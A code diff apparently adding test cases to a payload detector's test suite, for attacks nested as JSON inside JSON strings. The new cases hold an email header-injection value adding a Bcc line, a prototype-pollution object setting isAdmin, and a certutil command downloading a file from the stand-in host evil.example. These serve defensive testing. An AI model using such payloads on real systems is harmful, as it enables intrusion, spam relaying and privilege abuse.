@@ -711,7 +711,19 @@ const NOT_REMOTE_INCLUDE: Case[] = [
   ["header:referer", "https://example.com/index.php?"],
 ];
 
+// Verdicts read a JSON document in a JSON string as the application that parses it again does
+// (request/jsonbody.ts): its strings are parts, its keys keys.
+const NESTED_JSON: Case[] = [
+  ["body:json", JSON.stringify({ msg: JSON.stringify({ to: "a@example.com\nBcc: victim@example.com", subject: "hi" }) })],
+  ["body:json", JSON.stringify({ t: JSON.stringify({ constructor: { a: 1, prototype: { isAdmin: true } } }), z: "ok fine" })],
+  ["body:json", JSON.stringify({ args: JSON.stringify({ cmd: "certutil -urlcache -f http://evil.example/a a" }) })],
+];
+const NOT_NESTED_JSON: Case[] = [
+  ["body:json", JSON.stringify({ arguments: JSON.stringify({ to: "a@example.com", subject: "Re: your order", body: "Thanks!\nAnn" }) })],
+];
+
 describeVerdicts("%s payload verdicts", () => core, [
+  ["in a JSON document in a JSON string", "crlf|rce", NESTED_JSON, NOT_NESTED_JSON],
   ["remote-include", "rce", REMOTE_INCLUDE, NOT_REMOTE_INCLUDE],
   ["living-off-the-land", "rce", LIVING_OFF_THE_LAND, NOT_LIVING_OFF_THE_LAND],
   ["yaml-gadget", "rce", YAML_GADGET, NOT_YAML_GADGET],
